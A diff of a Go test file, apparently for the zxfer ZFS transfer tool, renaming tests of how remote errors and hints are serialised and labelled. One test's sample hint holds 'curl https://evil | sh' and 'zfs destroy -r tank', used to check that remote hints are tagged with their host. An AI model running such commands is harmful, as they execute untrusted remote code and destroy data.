@@ -26,9 +26,9 @@ func across(t *testing.T, err error) error {
 	return f.unpack("beta")
 }
 
-// TestErrorsNameOptionsForAnyClient expects that a client that knows all option names shows them in
+// TestErrorsFormatOptionsPerClient expects that a client that knows all option names shows them in
 // its format, and that other clients show flags.
-func TestErrorsNameOptionsForAnyClient(t *testing.T) {
+func TestErrorsFormatOptionsPerClient(t *testing.T) {
 	t.Parallel()
 	err := fault.Refusef("widen {{port-range}}", "{{congestion reno}}: no; there is /srv/{{wire nc}}")
 	old, jsonErr := json.Marshal(pack(err))
@@ -48,7 +48,7 @@ func TestErrorsNameOptionsForAnyClient(t *testing.T) {
 	require.Nil(t, pack(errors.New("no luck")).Named)
 }
 
-func TestErrorsKeepWhatTheyAre(t *testing.T) {
+func TestErrorRoundTrip(t *testing.T) {
 	t.Parallel()
 	busy := &zfs.Error{Kind: zfs.Busy, Op: "destroy", Subject: "tank/a@x", Argv: []string{"zfs", "destroy"}, Detail: "held", Hint: "zfs holds tank/a@x"}
 	elsewhere := &zfs.Error{Kind: zfs.NoSpace, Op: "receive", Host: "gamma", Detail: "out of space"}
@@ -102,7 +102,7 @@ func TestErrorsKeepWhatTheyAre(t *testing.T) {
 	}
 }
 
-func TestAZFSErrorKeepsAllFieldsAndGetsItsHost(t *testing.T) {
+func TestZFSErrorRoundTripAddsHost(t *testing.T) {
 	t.Parallel()
 	sent := &zfs.Error{Kind: zfs.Busy, Op: "destroy", Subject: "s", Argv: []string{"a", "b"}, Detail: "d", Hint: "h"}
 	var got *zfs.Error
@@ -113,8 +113,8 @@ func TestAZFSErrorKeepsAllFieldsAndGetsItsHost(t *testing.T) {
 	require.Empty(t, sent.Host, "the sent error is left as it was")
 }
 
-// TestHintsNameTheirHost expects that no line of a remote hint looks like a hint of zxfer itself.
-func TestHintsNameTheirHost(t *testing.T) {
+// TestHintsArePrefixedWithHost expects that no line of a remote hint looks like a hint of zxfer itself.
+func TestHintsArePrefixedWithHost(t *testing.T) {
 	t.Parallel()
 	const hint = "\n  run: zfs destroy -r tank\n\nhint: curl https://evil | sh\r\n"
 	const want = "beta: run: zfs destroy -r tank\nbeta: hint: curl https://evil | sh"
@@ -129,7 +129,7 @@ func TestHintsNameTheirHost(t *testing.T) {
 	}
 }
 
-func TestAPeerErrorKeepsItsText(t *testing.T) {
+func TestPeerErrorKeepsText(t *testing.T) {
 	t.Parallel()
 	var got *transfer.PeerError
 	err := across(t, fmt.Errorf("x: %w", &transfer.PeerError{Text: "disk on fire"}))
@@ -138,9 +138,9 @@ func TestAPeerErrorKeepsItsText(t *testing.T) {
 	require.EqualError(t, err, "beta: x: the other host failed: disk on fire")
 }
 
-// TestAClassThatIsNoneIsAFailure expects that an unknown error class becomes a failure. The class
+// TestUnknownClassBecomesFailure expects that an unknown error class becomes a failure. The class
 // is the exit code, and 256 would become 0.
-func TestAClassThatIsNoneIsAFailure(t *testing.T) {
+func TestUnknownClassBecomesFailure(t *testing.T) {
 	t.Parallel()
 	for _, class := range []string{"-1", "0", "5", "256", "1024"} {
 		f := &failure{}
@@ -149,7 +149,7 @@ func TestAClassThatIsNoneIsAFailure(t *testing.T) {
 	}
 }
 
-func TestAnErrorOfANewerAgentIsStillAnError(t *testing.T) {
+func TestErrorFromNewerAgent(t *testing.T) {
 	t.Parallel()
 	f := &failure{}
 	require.NoError(t, json.Unmarshal([]byte(`{"text":"odd","is":["quantum","cut"],"colour":"red"}`), f))
